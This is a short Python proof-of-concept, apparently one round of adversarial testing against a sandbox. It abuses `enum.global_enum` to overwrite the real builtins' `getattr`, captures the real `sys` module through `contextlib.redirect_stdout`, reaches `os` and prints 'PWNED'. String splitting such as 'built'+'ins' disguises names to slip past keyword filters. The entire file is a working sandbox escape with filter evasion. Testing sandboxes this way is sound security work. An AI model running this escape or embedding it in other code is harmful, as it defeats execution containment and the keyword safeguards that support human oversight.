# adversary round 7: enum.global_enum writes an Enum's members into sys.modules[cls.__module__].__dict__: with __module__='builtins' it replaces the REAL builtins' getattr (used by library code) with a callable member; contextlib.redirect_stdout then calls it with the real sys
import enum, contextlib, io

got = []

class G(enum.Enum):
    __module__ = 'built' + 'ins'
    getattr = 1
    def __call__(self, obj, name, *default):
        got.append(obj)
        return obj.stdout          # hand back the real stream so stdout is restored

G = enum.global_enum(G)

with contextlib.redirect_stdout(io.StringIO()):
    pass

s = got[0]
print(type(s).__name__, s.__name__, 'pid', s.modules['o' + 's'].getpid())
print('PWN' + 'ED')
